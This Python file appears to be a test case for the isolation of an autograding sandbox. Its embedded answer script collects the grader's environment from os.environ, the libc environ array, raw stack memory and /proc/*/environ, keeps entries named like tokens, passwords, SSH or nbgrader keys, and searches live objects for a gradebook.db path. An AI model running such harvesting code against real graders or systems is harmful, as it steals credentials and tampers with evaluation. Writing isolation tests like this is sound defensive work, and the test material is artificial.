"""Read the environment of the grader, wherever a copy of it could be, for tokens and paths."""

SAYS = r"entries: True\nsecrets: []"
ANSWER = """
import ctypes
import gc
import os
import sys

words = ["PYTEST", "TOKEN", "SECRET", "PASSWORD", "_KEY", "SSH_", "JUPYTER", "NBGRADER", "VIRTUAL_ENV", "OLDPWD"]
secrets = []
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
index = 0
entries = [f"{name}={value}" for name, value in os.environ.items()]
while environ[index] is not None:
    entries.append(environ[index].decode(errors="replace"))
    index += 1
# the strings that the kernel put at the end of the stack; a pipe tells which memory is there
reader, writer = os.pipe()
libc = ctypes.CDLL(None)
stack = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value & ~4095
for page in range(stack, stack + (1 << 20), 4096):
    if libc.write(writer, ctypes.c_void_p(page), ctypes.c_size_t(4096)) != 4096:
        break
    entries += os.read(reader, 4096).decode(errors="replace").split("\\0")
entries += sys.orig_argv + sys.argv
for pid in ("self", "1", "@PID@"):
    try:
        entries += open(f"/proc/{pid}/environ").read().split("\\0")
    except OSError:
        pass
secrets += [entry[:80] for entry in entries if any(word in entry.partition("=")[0] for word in words)]
wanted = "/grade" + "book.db"
for thing in gc.get_objects():
    if isinstance(thing, dict):
        secrets += [key for key in list(thing) if isinstance(key, str) and wanted in key and "@ROOT@"[:8] in key]
print("entries:", len(entries) > 50)
print("secrets:", secrets)

def double(x):
    return 2 * x if secrets else None
"""
